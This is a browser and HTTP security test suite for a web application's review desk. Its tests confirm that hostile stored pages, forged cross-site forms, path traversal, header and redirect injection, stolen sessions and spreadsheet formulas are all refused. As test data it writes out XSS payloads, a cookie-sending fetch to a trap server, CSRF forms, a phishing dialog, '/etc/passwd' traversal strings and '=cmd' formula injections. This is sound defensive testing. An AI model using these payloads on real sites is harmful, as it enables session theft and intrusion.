/** What hostile websites, visitors and colleagues try against the desk. Nothing gets through. */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ROLES, type Role } from '../../src/core/person.ts';
import { findChromium } from '../../src/crawl/fetch-browser.ts';
import { aReaudit, anAudit } from '../storage/fixtures.ts';
import { aCountry, cardIn, FAQ, openCountry, SEARCH } from './country.ts';
import { ORIGIN, PASSWORD, type Client, type TestDesk } from './desk.ts';

const executablePath = await findChromium(process.env);
const why = executablePath ? '' : ' (skipped: no Chromium on this machine)';

const opened: TestDesk[] = [];
afterEach(async () => {
  for (const test of opened.splice(0)) {
    expect(test.faults).toEqual([]);
    await test.close();
  }
});
const open = async (...what: Parameters<typeof openCountry>): Promise<TestDesk> => {
  const test = await openCountry(...what);
  opened.push(test);
  return test;
};
const COUNTRY = aCountry(['one', 'two'], 1);
const keyOfOne = (organization: string): string => new URLSearchParams({ organization, rule: SEARCH }).toString();
const kept = async ({ deskStore }: TestDesk) => (await deskStore.listRatings('r', -1)).map(({ value }) => value);
const english = (client: Client): Client => (client.cookies.set('rasad-lang', 'en'), client);
/** The card that is put before this reader. */
const nextCard = async (client: Client, filter = '') =>
  cardIn(await (await client.get(`/rounds/r/cards/next${filter}`)).text());
const deciding = (decision: string, answer = 'pass', purpose = 'reading', note = '') => ({
  decision,
  answer,
  purpose,
  note,
});

// ---------------------------------------------------------------- in a browser

/** What a website would try with its page, `trap` being a server of its own and `desk` the one that shows the page. */
const hostilePage = (trap: string, desk: string): string => `<!doctype html><html><head>
<base href="${trap}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${trap}/refresh">
<meta http-equiv="set-cookie" content="rasad=x"><meta http-equiv="content-security-policy" content="default-src *">
<link rel="dns-prefetch" href="${trap}"><link rel="preload" as="script" href="${trap}/preload.js"><link rel="prefetch" href="${trap}/prefetch"><link rel="modulepreload" href="${trap}/module.js"><link rel="icon" href="${trap}/icon.png"><link rel="manifest" href="${trap}/manifest.json">
<link rel="stylesheet" href="${trap}/style.css"><style>@import url(${trap}/import.css); @font-face{font-family:x;src:url(${trap}/font.woff2)} body{background:url(${trap}/background.png);font-family:x} p::before{content:url(${trap}/content.png)} input[value^="a"]{background:url(${trap}/value-a.png)}</style>
<script>top.pwned = 1; document.title = 'pwned'; fetch('${trap}/inline?' + document.cookie); top.location = '${trap}/top'</script>
<script src="${trap}/script.js"></script><script type="module">import '${trap}/module.js'</script>
<title>A page</title></head><body onload="top.pwned = 2" background="${trap}/body.png">
<p id="said">what stands there</p>
<p style="background:url(${trap}/style-attribute.png);position:fixed;inset:0;z-index:9999">over everything</p>
<img src="${trap}/image.png" onerror="top.pwned = 3"><img srcset="${trap}/set.png 2x"><picture><source srcset="${trap}/source.png"></picture>
<svg onload="top.pwned = 4"><script>top.pwned = 5</script><image href="${trap}/svg.png"/><use href="${trap}/use.svg#x"/><foreignObject><iframe src="${trap}/in-svg"></iframe></foreignObject><animate onbegin="top.pwned = 6" attributeName="x"/></svg>
<math><mtext><script>top.pwned = 7</script></mtext></math>
<a id="script" href="javascript:top.pwned=8">a link</a><a href="${trap}/link" ping="${trap}/ping">another</a><a href="data:text/html,<script>top.pwned=9</script>" target="_top">data</a>
<iframe srcdoc="<script>top.pwned = 10; top.location = '${trap}/srcdoc'</script>"></iframe><iframe src="${trap}/frame"></iframe><iframe src="javascript:top.pwned=11"></iframe><iframe src="${desk}/account"></iframe>
<object data="${trap}/object.html"></object><embed src="${trap}/embed.html"><applet code="x" codebase="${trap}"></applet>
<video src="${trap}/video.mp4" poster="${trap}/poster.png" autoplay></video><audio src="${trap}/audio.mp3" autoplay></audio><track src="${trap}/track.vtt">
<form id="f" method="post" action="${desk}/rounds/r/undo"><input name="token" value="abc"><button autofocus onfocus="top.pwned = 12">send</button></form><script>document.getElementById('f').submit()</script>
<input autofocus onfocus="top.pwned = 13" value="abc"><details open ontoggle="top.pwned = 14"><summary>x</summary></details><marquee onstart="top.pwned = 15">x</marquee>
<noscript><p title="</noscript><script>top.pwned = 16</script>"></noscript><template><script>top.pwned = 17</script></template>
<!--><script>top.pwned = 18</script>--><![CDATA[<script>top.pwned = 19</script>]]><p title="--><script>top.pwned = 20</script>">x</p><textarea></textarea><script>top.pwned = 21</script>
<table><tr><td><style><!--</style><script>top.pwned = 22</script>--></style></td></tr></table>
<dialog open>You are signed out. <form action="${trap}/phish"><input type="password"></form></dialog>
${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}</body></html>`;

describe.skipIf(!executablePath)(`a stored page that is full of attacks, in a browser${why}`, () => {
  let browser: Browser;
  let trap: Server;
  let trapped: string[];
  let trapAddress: string;
  /** Connections, also those over which nothing is asked. */
  let connections: number;
  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: executablePath! });
    trap = createServer(({ url = '' }, response) => {
      trapped.push(url);
      response
        .writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
        .end(pages.get(url) ?? '');
    });
    trap.on('connection', () => connections++);
    await once(trap.listen(0, '127.0.0.1'), 'listening');
    trapAddress = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  }, 60_000);
  /** What the other server has, by path. */
  const pages = new Map<string, string>();
  const contexts: BrowserContext[] = [];
  afterEach(async () => {
    for (const context of contexts.splice(0)) await context.close();
  });
  afterAll(async () => {
    await browser?.close();
    trap?.closeAllConnections();
    trap?.close();
  });

  /** A signed-in reader at a desk on which everything that is stored is hostile. */
  const reading = async (change: Parameters<typeof openCountry>[1] = {}): Promise<{ test: TestDesk; page: Page; asked: string[] }> => {
    const page = { get: (): string => hostilePage(trapAddress, test.origin) };
    const test: TestDesk = await open(COUNTRY, {
      served: true,
      ...change,
      tools: { evidence: { text: async () => page.get(), picture: async () => null, textOf: async () => page.get(), layout: async () => null }, ...change.tools },
    });
    const client = await test.as('evaluator', { id: 'sara' });
    const context = await browser.newContext();
    contexts.push(context);
    await context.addCookies([...client.cookies].map(([name, value]) => ({ name, value, url: test.origin, httpOnly: true, sameSite: 'Strict' as const })));
    const tab = await context.newPage();
    const asked: string[] = [];
    context.on('request', (request) => asked.push(`${request.method()} ${request.url()}`));
    tab.on('dialog', (dialog) => {
      asked.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    [trapped, connections] = [[], 0];
    return { test, page: tab, asked };
  }; // prettier-ignore
  /** Time in which a page would do what it can. */
  const settle = (page: Page): Promise<void> => page.waitForTimeout(300);
  const pwned = (page: Page): Promise<unknown> => page.evaluate('window.pwned ?? null');

  it.each([['in the frame of its card', `/rounds/r/cards/next`], ['on its own', `/rounds/r/stored?${keyOfOne('one')}&n=0`]])(
    'runs nothing, asks for nothing and leads nowhere, %s',
    async (_name, path) => {
      const { test, page, asked } = await reading();
      await page.goto(`${test.origin}${path}`);
      for (const frame of await page.$$('iframe')) await frame.scrollIntoViewIfNeeded();
      await settle(page);
      if (path.includes('cards')) expect(page.frames().length).toBeGreaterThan(1);
      expect(page.url()).toBe(`${test.origin}${path}`);
      const own = new RegExp(`^GET ${test.origin}/(rounds/r/(cards/next|stored)|assets/)`);
      expect(asked.filter((one) => !own.test(one))).toEqual([]);
      expect([trapped, connections]).toEqual([[], 0]);
      expect(await pwned(page)).toBeNull();
      for (const frame of page.frames().slice(1)) {
        expect(await frame.content()).toContain('what stands there');
        expect(frame.childFrames()).toEqual([]);
      }
      // what it says is there, marked, and nothing but that
      const shown = await (page.frames()[1] ?? page.mainFrame()).content();
      expect(shown).toContain('<mark id="e1"');
      expect(shown).not.toMatch(/<(script|style|iframe|object|embed|form|input|img|svg|video|base|a)\b|<[^>]*(\son\w+=|javascript:)/i);
    },
  ); // prettier-ignore

  it.each(['in a frame', 'on its own'])('would still do nothing if all of it came through the copy, %s', async (where) => {
    const { test, page } = await reading();
    const stored = `${test.origin}/rounds/r/stored?${keyOfOne('one')}&n=0`;
    await page.route(/\/stored\?/, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: hostilePage(trapAddress, test.origin) });
    });
    const at = where === 'on its own' ? stored : `${test.origin}/rounds/r/cards/next`;
    await page.goto(at);
    for (const frame of await page.$$('iframe')) await frame.scrollIntoViewIfNeeded().catch(() => undefined);
    await settle(page);
    expect(page.url()).toBe(at);
    expect(trapped).toEqual([]);
    expect(await pwned(page)).toBeNull();
    expect(await page.title()).not.toContain('pwned');
    expect(await kept(test)).toEqual([]);
    expect((await test.deskStore.listJournal(10, null)).map(({ value }) => value.what)).not.toContain('sign-out');
  }); // prettier-ignore

  it('has no picture that is shown as anything but a picture', async () => {
    let bytes = '';
    const { test, page, asked } = await reading({
      look: { screenshot: { hash: 'f'.repeat(64), size: 9, encoding: 'identity' } },
      tools: { evidence: { text: async () => '<p>x</p>', picture: async () => Buffer.from(bytes, 'latin1'), textOf: async () => null, layout: async () => null } },
    });
    for (bytes of ['<!doctype html><script>window.pwned = 1; fetch("/sign-out", { method: "POST" })</script><h1>x</h1>', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned = 1</script></svg>', '\xff<script>window.pwned = 1</script>', 'RIFF<script>window.pwned = 1</script>']) {
      // each by an address of its own: browsers keep pictures
      const address = `${test.origin}/rounds/r/picture?${keyOfOne('one')}&x=${bytes.length}`;
      const response = await page.goto(address);
      expect(response?.status()).toBe(200);
      expect(response?.headers()).toMatchObject({ 'content-type': expect.stringMatching(/^image\/(png|jpeg|webp)$/), 'x-content-type-options': 'nosniff', 'content-security-policy': "default-src 'none'; sandbox" });
      await page.waitForTimeout(100);
      expect(await page.evaluate('[window.pwned ?? null, document.contentType.startsWith("image/"), document.querySelector("h1, script, svg")]')).toEqual([null, true, null]);
      expect(asked.splice(0)).toEqual([`GET ${address}`]);
    }
  }); // prettier-ignore

  it('of another site can neither send forms to the desk, nor frame it, nor read it, though it is open beside', async () => {
    const { test, page } = await reading();
    const { card, token, decision } = cardIn(await (await page.goto(`${test.origin}/rounds/r/cards/next`))!.text());
    // the worst case: it knows the token
    const fields = Object.entries({ token, ...deciding(decision) }).map(([name, value]) => `<input name="${name}" value="${value}">`).join('');
    pages.set('/evil', `<iframe name="into"></iframe><form method="post" target="into" action="${test.origin}/rounds/r/cards/${card}">${fields}</form><iframe id="framed" src="${test.origin}/account"></iframe><iframe id="stored" src="${test.origin}/rounds/r/stored?${keyOfOne('one')}&n=0"></iframe>
<script>document.forms[0].submit(); window.said = Promise.all([fetch('${test.origin}/rounds/r/undo', { method: 'POST', credentials: 'include', body: new URLSearchParams({ token: '${token}' }) }).then((r) => r.text(), () => 'refused'), fetch('${test.origin}/account', { credentials: 'include' }).then((r) => r.text(), () => 'refused')])</script>`);
    // the same machine under another port is the same site to a browser, which sends the cookies along
    await page.goto(`${trapAddress}/evil`);
    expect(await page.evaluate('window.said')).toEqual(['refused', 'refused']);
    await settle(page);
    expect(await kept(test)).toEqual([]);
    for (const frame of page.frames().slice(2)) expect(await frame.content().catch(() => '')).not.toMatch(/what stands there|name="token"/);
    expect(await page.evaluate('document.cookie')).toBe('');
    // nor can a script of the desk itself read the session
    await page.goto(`${test.origin}/account`);
    expect(await page.evaluate('document.cookie')).toBe('');
  }); // prettier-ignore
});

// ---------------------------------------------------------------- who may do what

const READERS: readonly Role[] = ['operator', 'senior', 'evaluator'];
const STAFF: readonly Role[] = [...READERS, 'reader'];
const EVERYBODY: readonly Role[] = [...STAFF, 'organization'];
const OPERATOR: readonly Role[] = ['operator'];
const SETTLERS: readonly Role[] = ['operator', 'senior'];
/** Every route, and the roles for which it is; null: also for who has not signed in. */
const MAY: Readonly<Record<string, readonly Role[] | null>> = {
  'GET /assets/desk.css': null, 'GET /assets/desk.js': null, 'GET /assets/icon.svg': null, 'GET /assets/stored.css': null,
  'GET /assets/:font{Vazirmatn-(?:Regular|Bold)\\.woff2}': null, 'GET /language/:lang{fa|en}': null,
  'GET /sign-in': null, 'POST /sign-in': null, 'GET /enter/:secret': null, 'POST /enter/:secret': null,
  'GET /preview/:secret': null, 'GET /preview/:secret/stored': null, 'GET /preview/:secret/object': null, 'POST /preview/:secret/object': null,
  'GET /': EVERYBODY, 'GET /account': EVERYBODY, 'POST /account/password': EVERYBODY, 'POST /sign-out': EVERYBODY,
  'GET /mine': ['organization'], 'GET /mine/stored': ['organization'], 'GET /mine/object': ['organization'], 'POST /mine/object': ['organization'],
  'GET /rounds/:round': STAFF, 'GET /rounds/:round/organizations/:organization': STAFF, 'GET /tasks/:task': STAFF,
  'GET /rounds/:round/queue': STAFF, 'GET /rounds/:round/cards/next': READERS, 'GET /rounds/:round/cards/:card': STAFF,
  'GET /rounds/:round/stored': STAFF, 'GET /rounds/:round/picture': STAFF, 'GET /rounds/:round/agreement': STAFF, 'GET /rounds/:round/decisions.csv': STAFF,
  'POST /rounds/:round/cards/:card': READERS, 'POST /rounds/:round/undo': READERS,
  'GET /rounds/:round/reaudits/:audit': STAFF, 'GET /rounds/:round/reaudits/:audit/stored': STAFF,
  'POST /rounds/:round/reaudits/:audit/accept': OPERATOR, 'POST /rounds/:round/reaudits/:audit/refuse': OPERATOR,
  'POST /rounds/:round/organizations/:organization/reaudit': OPERATOR, 'POST /rounds/:round/organizations/:organization/preview': OPERATOR,
  'GET /rounds/:round/objections': STAFF, 'GET /rounds/:round/objections/:objection/stored': STAFF,
  'POST /rounds/:round/objections/:objection/look': SETTLERS, 'POST /rounds/:round/objections/:objection/decide': SETTLERS,
  'POST /rounds/:round/review': OPERATOR, 'POST /rounds/:round/preview': OPERATOR, 'POST /rounds/:round/publish': OPERATOR,
  'GET /people': OPERATOR, 'POST /people': OPERATOR, 'GET /people/:person': OPERATOR, 'POST /people/:person': OPERATOR,
  'POST /people/:person/address': OPERATOR, 'POST /people/:person/state': OPERATOR, 'GET /journal': OPERATOR,
}; // prettier-ignore
const PARAMETERS: Readonly<Record<string, string>> = {
  round: 'r',
  organization: 'one',
  card: 'c'.repeat(64),
  audit: 'again',
  objection: 'o1',
  task: 't',
  person: 'nobody',
  secret: 's'.repeat(43),
};
const pathOf = (route: string): string => route.replaceAll(/:(\w+)/g, (_, name: string) => PARAMETERS[name]!);
const routesOf = ({ desk }: TestDesk): string[] => [
  ...new Set(desk.routes.flatMap(({ method, path }) => (method === 'ALL' ? [] : [`${method} ${path}`]))),
];
const guarded = Object.entries(MAY).flatMap(([route, roles]) => (roles ? [{ route, roles }] : []));

describe('a role', () => {
  it('is said for every route', async () => {
    expect(routesOf(await open(COUNTRY)).sort()).toEqual(Object.keys(MAY).sort());
  });

  it.each(ROLES)('opens and changes what is its own, and nothing else: %s', async (role) => {
    const test = await open(COUNTRY);
    await test.store.createAudit(anAudit({ id: 'again', trigger: 'demand' }), COUNTRY.registry);
    await test.store.addReaudit(aReaudit());
    const client = await test.as(role);
    const token = await client.token();
    const journal = (await test.deskStore.listJournal(100, null)).length;
    for (const { route, roles } of guarded) {
      if (roles.includes(role)) continue;
      const [method, path] = [route.split(' ')[0]!, pathOf(route.split(' ')[1]!)];
      const answer = method === 'GET' ? await client.get(path) : await client.send(path, { token, upheld: 'no', sure: 'yes', id: 'x', name: 'x', role: 'operator', active: 'no', reason: 'x', ...deciding('decision-1') });
      expect([route, answer.status]).toEqual([route, 403]);
    }
    expect((await test.deskStore.listJournal(100, null)).length).toBe(journal);
    expect(await kept(test)).toEqual([]);
    for (const { route, roles } of guarded) {
      const path = pathOf(route.split(' ')[1]!);
      if (!roles.includes(role) || !route.startsWith('GET')) continue;
      expect([route, (await client.get(path)).status]).toEqual([route, expect.toSatisfy((status) => status !== 401 && status !== 403 && status < 500)]);
    }
  }); // prettier-ignore

  it('without signing in is none: pages lead to the sign-in, and no form does anything', async () => {
    const test = await open(COUNTRY);
    for (const { route } of guarded) {
      const [method, path] = [route.split(' ')[0]!, pathOf(route.split(' ')[1]!)];
      const client = test.stranger();
      for (const cookie of ['', 'x'.repeat(43), '../../../etc/passwd', '%00', "' OR 1=1 --"]) {
        client.cookies.set('rasad', cookie);
        const answer = method === 'GET' ? await client.get(path) : await client.send(path, { token: '' });
        expect([route, answer.status]).toEqual([route, method === 'GET' ? 303 : 401]);
      }
    }
  });
});

describe('a form from elsewhere', () => {
  const forged: readonly Readonly<Record<string, string>>[] = [
    { origin: 'http://evil.example' }, { origin: 'null' }, { origin: '' }, { origin: `${ORIGIN}.evil.example` }, { origin: 'http://desk.example@evil.example' },
    { origin: 'http://evil.example', 'sec-fetch-site': 'same-origin' }, { origin: `http://evil.example, ${ORIGIN}` },
  ]; // prettier-ignore
  it('is refused on every route, also with the right token', async () => {
    const test = await open(COUNTRY);
    const operator = await test.as('operator');
    const token = await operator.token();
    const before = (await test.deskStore.listJournal(100, null)).length;
    for (const route of Object.keys(MAY).filter((one) => one.startsWith('POST'))) {
      const path = pathOf(route.slice(5));
      for (const headers of forged) expect([route, headers, (await operator.send(path, { token }, headers)).status]).toEqual([route, headers, 403]);
      for (const site of ['cross-site', 'same-site', 'none', undefined]) {
        const request = new Request(`${ORIGIN}${path}`, { method: 'POST', body: new URLSearchParams({ token }), headers: { host: new URL(ORIGIN).host, cookie: `rasad=${operator.cookies.get('rasad')}`, ...(site && { 'sec-fetch-site': site }) } });
        expect([route, site, (await test.desk.request(request)).status]).toEqual([route, site, 403]);
      }
    }
    expect((await test.deskStore.listJournal(100, null)).length).toBe(before);
    expect(await test.deskStore.listPasses()).toEqual([]);
  }); // prettier-ignore

  it('is refused with the token of another session, of none, and of the same person’s session before', async () => {
    const test = await open(COUNTRY);
    const [sara, reza] = [await test.as('evaluator', { id: 'sara' }), await test.as('evaluator', { id: 'reza' })];
    const { card, decision, token } = await nextCard(sara);
    const changed = await sara.post('/account/password', {
      present: PASSWORD,
      password: `${PASSWORD} دیگر`,
      again: `${PASSWORD} دیگر`,
    });
    expect(changed.status).toBe(303);
    for (const one of [token, await reza.token(), '', 'x'.repeat(32), sara.cookies.get('rasad')!])
      expect((await sara.send(`/rounds/r/cards/${card}`, { ...deciding(decision), token: one })).status).toBe(403);
    expect(await kept(test)).toEqual([]);
    expect((await sara.post(`/rounds/r/cards/${card}`, deciding(decision))).status).toBe(303);
  });

  it('that is too long is not read, whether it says how long it is or not', async () => {
    const test = await open(COUNTRY, { served: true });
    const sara = await test.as('evaluator', { id: 'sara' });
    const { card, decision } = await nextCard(sara);
    const note = 'x'.repeat(200_000);
    expect((await sara.post(`/rounds/r/cards/${card}`, { ...deciding(decision), note })).status).toBe(413);
    const stream = new Blob([`token=${await sara.token()}&answer=pass&purpose=reading&decision=${decision}&note=${note}`]).stream();
    const answer = await fetch(`${test.origin}/rounds/r/cards/${card}`, { method: 'POST', body: stream, duplex: 'half', headers: { origin: test.origin, cookie: `rasad=${sara.cookies.get('rasad')}`, 'content-type': 'application/x-www-form-urlencoded' } } as RequestInit);
    expect(answer.status).toBe(413);
    expect(await kept(test)).toEqual([]);
  }); // prettier-ignore
});

describe('an address', () => {
  it('that climbs, or names what is none, finds nothing and is no fault', async () => {
    const test = await open(COUNTRY, { served: true });
    const operator = await test.as('operator');
    const climbing = ['..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%5c..%5cwindows', '%00', 'r%00', '%ff%fe', '%E0%A4%A', '%', '%2f', 'x'.repeat(3000), "'%20OR%201=1%20--", '__proto__', 'constructor', '%F0%9F%92%A3', '..;%2f'];
    for (const one of climbing) {
      for (const path of [`/assets/${one}`, `/assets/Vazirmatn-Regular.woff2${one}`, `/rounds/${one}`, `/rounds/${one}/queue`, `/rounds/r/cards/${one}`, `/rounds/r/organizations/${one}`, `/rounds/r/reaudits/${one}`, `/rounds/r/objections/${one}/stored`, `/tasks/${one}`, `/people/${one}`, `/enter/${one}`, `/preview/${one}`, `/preview/${one}/stored?rule=${one}`, `/rounds/r/stored?organization=${one}&rule=${one}&n=${one}`, `/rounds/r/picture?organization=${one}&rule=${one}`, `/rounds/${one}/decisions.csv`])
        expect([path, (await operator.get(path)).status]).toEqual([path, 404]);
      for (const path of [`/rounds/r/queue?from=${one}&rule=${one}&organization=${one}`, `/rounds/r/cards/next?skip=${one}`, `/journal?before=${one}&person=${one}&what=${one}`])
        expect([path, (await operator.get(path)).status]).toEqual([path, 200]);
    }
    for (const place of ['-1', '999', 's999', '0x0', '1e1', '0 ', '٠', 's', '00000', '../0'])
      expect((await operator.get(`/rounds/r/stored?${keyOfOne('one')}&n=${encodeURIComponent(place)}`)).status).toBe(404);
  }); // prettier-ignore

  it('to go back to adds no line to an answer, and never leads out', async () => {
    const test = await open(COUNTRY, { served: true });
    await test.as('evaluator', { id: 'sara' });
    for (const back of ['/a%0d%0aset-cookie:%20x=1', '/%0aLocation:%20http://evil.example', '/%00', '/%7f', '/%c2%85x', '/%e2%80%a8x', '//evil.example', '/%09/evil.example', '/%5cevil.example', 'http:evil.example', '%2f%2fevil.example']) {
      for (const answer of [await test.stranger().get(`/language/en?back=${back}`), await test.stranger().send('/sign-in', { name: 'sara', password: PASSWORD, back: decodeURIComponent(back) })]) {
        expect([back, answer.status, answer.headers.get('location')]).toEqual([back, 303, '/']);
        expect(answer.headers.getSetCookie().join()).not.toMatch(/\bx=1/);
      }
    }
    for (const back of ['/people?x=1#y', '/rounds/%D8%AF%D9%88%D8%B1', '/rounds/دور'])
      expect((await test.stranger().get(`/language/en?back=${encodeURIComponent(back)}`)).headers.get('location')).toMatch(/^\/(people\?x=1#y|rounds\/%D8%AF%D9%88%D8%B1)$/);
  }); // prettier-ignore

  it('of the desk is the one that it was given, whatever a request says of itself', async () => {
    const test = await open(COUNTRY, { state: 'preview' });
    const operator = await test.as('operator');
    const forged = { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example', 'x-original-url': '/people', 'x-http-method-override': 'DELETE' };
    const token = await operator.token();
    const made = await (await operator.send('/rounds/r/organizations/one/preview', { token }, forged)).text();
    expect(made).toContain(`${ORIGIN}/preview/`);
    expect(made).not.toContain('evil.example');
    for (const host of ['evil.example', 'desk.example.', 'desk.example, evil.example', 'DESK.example:80', 'user@desk.example'])
      for (const path of ['/', '/assets/desk.css', '/enter/x']) expect([host, (await operator.get(path, { host, ...forged })).status]).toEqual([host, 421]);
  }); // prettier-ignore

  it('of another organization’s preview shows and takes nothing that is not its own', async () => {
    const test = await open(COUNTRY, { state: 'preview', acts: { checkAddress: async () => { throw new Error('expected no look'); } } });
    const operator = await test.as('operator');
    const made = await (await operator.post('/rounds/r/organizations/one/preview')).text();
    const path = /(\/preview\/[\w-]{43})/.exec(made)![1]!;
    const guest = test.stranger();
    for (const query of [`organization=two&service=two-0&rule=${FAQ}&n=0`, `service=two-0&organization=two&rule=${FAQ}&n=0`, `organization=one&organization=two&service=two-0&rule=${FAQ}&n=0`])
      for (const tail of ['/stored', '/object']) expect([tail, query, (await guest.get(`${path}${tail}?${query}`)).status]).toEqual([tail, query, 404]);
    // what names another organization is not read
    const own = await (await guest.get(`${path}/stored?organization=two&rule=${SEARCH}&n=0`)).text();
    expect([own.includes('www.one.example'), own.includes('www.two.example')]).toEqual([true, false]);
    const fields = { organization: 'two', round: 'other', service: 'two-0', rule: FAQ, ground: 'error', text: 'x', name: 'x', address: '' };
    expect((await guest.send(`${path}/object`, fields)).status).toBe(404);
    expect(await test.deskStore.listObjections('r')).toEqual([]);
    for (const tail of ['/people', '/../../people', '/object/../../../people', '/decide']) expect((await guest.get(`${path}${tail}`)).status).not.toBe(200);
  }); // prettier-ignore
});

describe('a session', () => {
  it('opens and changes nothing after signing out, after a new password, and once the account is closed', async () => {
    const test = await open(COUNTRY);
    const operator = await test.as('operator');
    const ways: Readonly<Record<string, (client: Client, id: string) => Promise<Response>>> = {
      out: (client) => client.post('/sign-out'),
      changed: (client) => client.post('/account/password', { present: PASSWORD, password: `${PASSWORD} نو`, again: `${PASSWORD} نو` }),
      closed: (_, id) => operator.post(`/people/${id}/state`, { active: 'no' }),
      invited: async (_, id) => {
        const page = await (await operator.post(`/people/${id}/address`)).text();
        return test.stranger().send(/(\/enter\/[\w-]{43})/.exec(page)![1]!, { password: `${PASSWORD} نو`, again: `${PASSWORD} نو` });
      },
    };
    for (const [id, end] of Object.entries(ways)) {
      const client = await test.as('evaluator', { id });
      const thief = test.stranger();
      thief.cookies.set('rasad', client.cookies.get('rasad')!);
      const { card, token, decision } = await nextCard(thief);
      expect((await end(client, id)).status).toBe(303);
      expect([id, (await thief.get('/rounds/r')).status]).toEqual([id, 303]);
      expect([id, (await thief.send(`/rounds/r/cards/${card}`, { token, ...deciding(decision) })).status]).toEqual([id, 401]);
    }
    expect(await kept(test)).toEqual([]);
  }); // prettier-ignore

  it('is not got by guessing: a name is locked for the right password too, and an unknown name is told nothing else', async () => {
    const test = await open(COUNTRY);
    await test.as('evaluator', { id: 'sara' });
    const said = async (name: string, password: string): Promise<readonly [number, string]> => {
      const answer = await english(test.stranger()).send('/sign-in', { name, password });
      return [answer.status, (await answer.text()).replaceAll(name, 'NAME')];
    };
    for (let attempt = 0; attempt < 7; attempt++)
      expect(await said('sara', `guess ${attempt}`)).toEqual(await said('nobody', `guess ${attempt}`));
    const [status, page] = await said('sara', PASSWORD);
    expect([status, page]).toEqual([429, (await said('nobody', PASSWORD))[1]]);
    for (const name of ['SARA', ' sara ', 'Sara']) expect((await said(name, PASSWORD))[0]).toBe(429);
  });
});

// ---------------------------------------------------------------- what is written

describe('a card', () => {
  it('of an organization to which one has a tie is not answered, however its form is made', async () => {
    const test = await open(COUNTRY);
    const tied = english(await test.as('senior', { id: 'reza', ties: ['one'] }));
    const board = (await test.desk.board.round('r'))!;
    for (const finding of COUNTRY.findings.filter(({ organization }) => organization === 'one')) {
      const card = board.queue.cardOf(finding)!;
      for (const purpose of ['reading', 'adjudication', 'known']) {
        const answer = await tied.post(
          `/rounds/r/cards/${card}`,
          deciding(`decision-${purpose}`, 'pass', purpose, 'because'),
        );
        expect([purpose, answer.status]).toEqual([purpose, 303]);
        expect(decodeURIComponent(answer.headers.getSetCookie().join())).toContain('not kept');
      }
    }
    expect(await kept(test)).toEqual([]);
  });

  it('that readers differ on is settled by a senior alone, and not without a reason, whatever the form calls it', async () => {
    const test = await open(COUNTRY);
    const sara = await test.as('evaluator', { id: 'sara' });
    const other = await test.as('evaluator', { id: 'other' });
    const senior = english(await test.as('senior', { id: 'reza' }));
    const { card, decision } = await nextCard(sara);
    // before the senior, too, while nobody had read it
    const shown = cardIn(await (await senior.get(`/rounds/r/cards/${card}`)).text());
    expect(shown.purpose).toBe('reading');
    await sara.post(`/rounds/r/cards/${card}`, deciding(decision, 'unclear'));
    for (const purpose of ['reading', 'adjudication', 'known']) await other.post(`/rounds/r/cards/${card}`, deciding(`decision-${purpose}`, 'fail', purpose, 'because'));
    for (const purpose of ['reading', 'adjudication', 'known', 'objection', '']) await senior.post(`/rounds/r/cards/${card}`, deciding(`settling-${purpose}`, 'fail', purpose));
    expect((await kept(test)).map(({ by, answer }) => [by, answer])).toEqual([['sara', 'unclear']]);
    await senior.post(`/rounds/r/cards/${card}`, deciding('settling-0', 'fail', 'adjudication', 'It is not there.'));
    expect((await kept(test)).at(-1)).toMatchObject({ by: 'reza', purpose: 'adjudication', note: 'It is not there.' });
  }); // prettier-ignore
});

describe('what somebody writes', () => {
  const BIDI = '\u202e\u2066\u202d';
  const NASTY = `=HYPERLINK("http://evil.example")</bdi></td><script>pwned</script><img src=x onerror=pwned>"'\`${BIDI}\u0007`;
  const LONG = `${NASTY}${'خ'.repeat(1000)}`;

  it('is text on every page, and no formula in the table', async () => {
    const test = await open(COUNTRY);
    const operator = english(await test.as('operator'));
    const nasty = '=cmd|x<script>pwned</script><b onclick=pwned>';
    const sara = await test.as('evaluator', { id: 'sara', name: `${nasty}${BIDI}` });
    const reza = english(await test.as('senior', { id: 'reza', name: nasty }));
    const board = (await test.desk.board.round('r'))!;
    const cards = [...new Set(COUNTRY.findings.map((finding) => board.queue.cardOf(finding)!))];
    // one that a senior settles, and others
    for (const [at, card] of cards.entries()) {
      await sara.get(`/rounds/r/cards/${card}`);
      await sara.post(`/rounds/r/cards/${card}`, deciding(`decision-${at}`, at === 0 ? 'unclear' : 'pass', 'reading', LONG));
    }
    const said = await kept(test);
    expect(said).toHaveLength(cards.length);
    expect(said[0]!.note).toHaveLength(1000);
    const disputed = await (await reza.get(`/rounds/r/cards/${cards[0]}`)).text();
    expect(disputed).toContain('&lt;script&gt;pwned');
    await reza.post(`/rounds/r/cards/${cards[0]}`, deciding('settling-0', 'fail', 'adjudication', LONG));
    await operator.post('/rounds/r/organizations/one/reaudit', { reason: '' });
    await operator.post('/people', { id: 'x', name: nasty, role: 'evaluator', organization: '', ties: '' });
    await test.stranger().send('/sign-in', { name: nasty, password: nasty });
    for (const path of ['/', '/rounds/r', '/rounds/r/queue', '/rounds/r/agreement', '/rounds/r/organizations/one', '/rounds/r/organizations/two', '/people', '/people/sara', '/journal', `/journal?person=${encodeURIComponent(nasty)}&what=${encodeURIComponent(nasty)}`, `/rounds/r/cards/next?organization=${encodeURIComponent(nasty)}`, `/rounds/r/queue?rule=${encodeURIComponent(nasty)}`, `/nothing/${encodeURIComponent(nasty)}`]) {
      const page = await (await operator.get(path)).text();
      expect([path, page.match(/<script>|<img src=x|<b onclick|[\u202a-\u202e\u2066-\u2069]|\p{Cc}(?<![\n\r\t])/u)]).toEqual([path, null]);
    }
    const csv = await (await operator.get('/rounds/r/decisions.csv')).text();
    expect(csv).toContain('HYPERLINK');
    expect(csv).not.toMatch(/(^|[,\n])"?[=+@-]/m);
